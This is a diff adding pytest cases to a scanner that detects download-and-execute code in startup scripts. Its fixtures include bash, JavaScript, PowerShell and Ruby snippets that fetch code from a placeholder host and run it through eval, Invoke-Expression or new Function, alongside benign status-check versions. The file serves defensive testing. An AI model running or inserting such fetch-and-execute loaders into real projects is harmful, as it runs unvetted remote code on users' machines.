@@ -192,3 +192,59 @@ def test_a_startup_write_beside_a_download_or_a_decoded_constant_is_an_error_at_
 @pytest.mark.parametrize("path", sorted(RC_GOOD))
 def test_a_plain_startup_line_beside_a_version_check_or_an_icon_stays_quiet(path):
     assert not _at({path: RC_GOOD[path]}, STARTUP), found({path: RC_GOOD[path]})
+
+
+RUN_FETCHED = {
+    "scripts/boot.sh": (
+        '#!/bin/bash\nget() { curl -fsSL "$1" -o "$2"; }\ntmp=$(mktemp)\n'
+        'get https://cdn.toolbox-updates.example/agent/latest "$tmp"\nbash "$tmp"\n',
+        5,
+    ),
+    "scripts/boot.js": (
+        "async function pull(u) {\n  const r = await fetch(u);\n  return r.text();\n}\n"
+        "pull('https://cdn.toolbox-updates.example/agent.js').then((src) => new Function(src)());\n",
+        5,
+    ),
+    "scripts/boot.ps1": (
+        "function Get-Body($u) { (Invoke-WebRequest -Uri $u -UseBasicParsing).Content }\n"
+        "$code = Get-Body 'https://cdn.toolbox-updates.example/agent.ps1'\nInvoke-Expression $code\n",
+        3,
+    ),
+    "scripts/boot.rb": (
+        "require 'net/http'\n\ndef pull(u)\n  Net::HTTP.get(URI(u))\nend\n\n"
+        "src = pull('https://cdn.toolbox-updates.example/agent.rb')\neval(src)\n",
+        8,
+    ),
+}
+RUN_GOOD = {
+    "scripts/boot.sh": (
+        "#!/bin/bash\ncurl -fsSL https://api.toolbox-updates.example/v1/status -o status.json\n"
+        "python3 -m json.tool status.json\n"
+    ),
+    "scripts/boot.js": (
+        "const { execFileSync } = require('child_process');\n"
+        "fetch('https://api.toolbox-updates.example/v1/status').then((r) => r.json()).then((s) => console.log(s.state));\n"
+        "execFileSync('node', ['--version'], { stdio: 'inherit' });\n"
+    ),
+    "scripts/boot.ps1": (
+        "$s = Invoke-RestMethod -Uri 'https://api.toolbox-updates.example/v1/status'\n"
+        "$s | ConvertTo-Json | Set-Content -Path status.json\npwsh -NoProfile -File ./scripts/report.ps1\n"
+    ),
+    "scripts/boot.rb": (
+        "require 'net/http'\nrequire 'json'\n\n"
+        "s = JSON.parse(Net::HTTP.get(URI('https://api.toolbox-updates.example/v1/status')))\n"
+        "File.write('status.json', JSON.dump(s))\nsystem('ruby', '--version')\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("path", sorted(RUN_FETCHED))
+def test_fetched_text_run_through_a_helper_is_reported_at_the_run(path):
+    text, line = RUN_FETCHED[path]
+    hits = _at({path: text}, DOWNLOAD_EXEC)
+    assert hits and hits[0][3] == line, found({path: text})
+
+
+@pytest.mark.parametrize("path", sorted(RUN_GOOD))
+def test_a_status_download_beside_an_interpreter_stays_quiet(path):
+    assert not _at({path: RUN_GOOD[path]}, DOWNLOAD_EXEC), found({path: RUN_GOOD[path]})
